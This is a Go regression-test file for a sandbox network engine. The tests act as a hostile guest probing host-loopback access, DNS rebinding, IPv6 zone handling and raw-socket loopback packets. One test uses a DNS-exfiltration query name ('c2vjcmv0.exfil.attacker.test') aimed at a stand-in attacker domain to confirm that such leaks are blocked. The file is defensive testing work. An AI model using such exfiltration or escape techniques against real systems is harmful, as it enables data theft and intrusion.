package engine

import (
	"net/netip"
	"testing"

	"github.com/miekg/dns"

	"krunbox.dev/netd/internal/config"
)

// Regression tests for the hostile review of the engine (issue 15's
// review): each acts as the guest and checks what reached the host, with a
// positive control in the same run.

// The guest resolving host.krunbox.internal binds nothing: a suffix rule
// covering that name (one config.Parse refuses; forced in here to check the
// engine's own defence) does not open the host's loopback, while a
// dns.hosts name under the same suffix, bound to hostAddress by the
// configuration itself, does.
func TestHostNameNeverGrantsHostLoopbackToASuffixRule(t *testing.T) {
	srv := newEchoServer(t)
	rules := `[{"action":"allow","dest":{"kind":"suffix","suffix":".corp.internal"},"protocols":["tcp"],"id":"allow@.internal:tcp"},
	 {"action":"allow","dest":{"kind":"group","group":"public"},"id":"allow@public"}]`
	cfg := baseConfig(t, rules, "deny", map[string]any{"dns": map[string]any{"hosts": map[string]string{"db.corp.internal": "10.0.2.254"}}})
	cfg.Policy.Rules[0].Dest.Suffix = ".internal" // what config.Parse now refuses
	h := start(t, cfg)
	if got := answers(h.query("10.0.2.3", "udp", "host.krunbox.internal")); len(got) != 1 || got[0] != "10.0.2.254" {
		t.Fatalf("host.krunbox.internal: %v", got)
	}
	refusedFast(t, h, "10.0.2.254", srv.port)
	if srv.count() != 0 {
		t.Fatalf("the host's loopback accepted %d connections through a suffix rule", srv.count())
	}
	// Positive control: the configuration's own binding under that suffix.
	if got := answers(h.query("10.0.2.3", "udp", "db.corp.internal")); len(got) != 1 {
		t.Fatalf("db.corp.internal: %v", got)
	}
	c, err := h.dial("10.0.2.254", srv.port)
	if err != nil {
		t.Fatalf("dns.hosts binding under the suffix: %v", err)
	}
	defer c.Close()
	if got, err := echoOnce(c, "named"); err != nil || got != "named" {
		t.Fatalf("echo: %q %v", got, err)
	}
}

// An allowed name whose upstream answer is hostAddress (kept: a rule for the
// host group allows udp:9) gets no TCP of its own there: the name rule
// grants public addresses only, the host rule only its protocol and port.
func TestRebindingAnswerGetsOnlyItsAddressRulePorts(t *testing.T) {
	srv := newEchoServer(t)
	up := newUpstream(t, map[string][]string{"lo.allowed.test.": {"10.0.2.254"}})
	rules := `[{"action":"allow","dest":{"kind":"suffix","suffix":".allowed.test"},"protocols":["tcp"],"id":"allow@.allowed.test:tcp"},
	 {"action":"allow","dest":{"kind":"group","group":"host"},"protocols":["udp"],"ports":[{"from":9,"to":9}],"id":"allow@host:udp:9"}]`
	h := start(t, baseConfig(t, rules, "deny", map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}))
	if got := answers(h.query("10.0.2.3", "udp", "lo.allowed.test")); len(got) != 1 || got[0] != "10.0.2.254" {
		t.Fatalf("lo.allowed.test: %v", got)
	}
	refusedFast(t, h, "10.0.2.254", srv.port)
	if srv.count() != 0 {
		t.Fatalf("host loopback tcp:%d reached through a name rule", srv.port)
	}
	// Positive control: the same server with the host group allowed for tcp.
	rules2 := `[{"action":"allow","dest":{"kind":"group","group":"host"},"protocols":["tcp"],"id":"allow@host:tcp"}]`
	h2 := start(t, baseConfig(t, rules2, "deny", nil))
	c, err := h2.dial("10.0.2.254", srv.port)
	if err != nil {
		t.Fatalf("host group allowed: %v", err)
	}
	defer c.Close()
	if got, err := echoOnce(c, "x"); err != nil || got != "x" {
		t.Fatalf("echo: %q %v", got, err)
	}
}

// The host profile alone (or any address rule but any and public) forwards
// no name upstream: NXDOMAIN, and the upstream never sees the query. The
// public profile, same upstream, same name, does forward it.
func TestHostProfileForwardsNoNameUpstream(t *testing.T) {
	up := newUpstream(t, map[string][]string{"c2vjcmv0.exfil.attacker.test.": {"203.0.113.7"}})
	dnsCfg := map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}
	h := start(t, baseConfig(t, `[{"action":"allow","dest":{"kind":"group","group":"host"},"id":"allow@host"},
	 {"action":"allow","dest":{"kind":"cidr","cidr":"203.0.113.0/24"},"protocols":["tcp"],"id":"allow@203.0.113.0/24:tcp"}]`, "deny", dnsCfg))
	if r := h.query("10.0.2.3", "udp", "c2vjcmv0.exfil.attacker.test"); r.Rcode != dns.RcodeNameError {
		t.Fatalf("host profile: rcode %d", r.Rcode)
	}
	if up.saw("c2vjcmv0.exfil.attacker.test") {
		t.Fatal("allow@host only, yet the upstream saw the name")
	}
	h2 := start(t, baseConfig(t, rulesPublic, "deny", dnsCfg))
	if got := answers(h2.query("10.0.2.3", "udp", "c2vjcmv0.exfil.attacker.test")); len(got) != 1 || !up.saw("c2vjcmv0.exfil.attacker.test") {
		t.Fatalf("public profile: %v, upstream saw it: %v", got, up.saw("c2vjcmv0.exfil.attacker.test"))
	}
}

// A published port's client with an IPv6 zone is checked against the
// ingress rules like the same address without it.
func TestIngressClientZoneIsStripped(t *testing.T) {
	rules := `[{"action":"deny","direction":"ingress","dest":{"kind":"cidr","cidr":"fe80::/10"},"id":"deny@[fe80::/10]:ingress"}]`
	h := start(t, baseConfig(t, rules, "deny", nil))
	p := config.Port{Protocol: "tcp", Host: 8080, Guest: 80}
	if h.e.ingress("tcp", netip.MustParseAddr("fe80::1%lo"), p) {
		t.Fatal("a zoned link-local client passed deny@[fe80::/10]:ingress")
	}
	if evs := h.eventsFor("fe80::1"); len(evs) != 1 || evs[0].Action != "denied" {
		t.Fatalf("events: %+v", evs)
	}
	// Control: another client is admitted (no ingress rule matches it).
	if !h.e.ingress("tcp", netip.MustParseAddr("::1"), p) {
		t.Fatal("::1 refused")
	}
	h.e.flows.release()
}

// A guest packet to 127/8 (only a raw socket sends one) is decided like any
// flow: refused at once with a RST and an event, not silently dropped.
func TestLoopbackDestinationIsRefusedNotDropped(t *testing.T) {
	srv := newEchoServer(t)
	h := start(t, baseConfig(t, rulesHost, "deny", nil))
	refusedFast(t, h, "127.0.0.1", srv.port)
	if evs := h.eventsFor("127.0.0.1"); len(evs) == 0 || evs[0].Action != "denied" {
		t.Fatalf("events: %+v", evs)
	}
	if srv.count() != 0 {
		t.Fatal("the host's loopback accepted a connection")
	}
	// Control, same guest: hostAddress reaches the same server.
	c, err := h.dial("10.0.2.254", srv.port)
	if err != nil {
		t.Fatal(err)
	}
	c.Close()
}
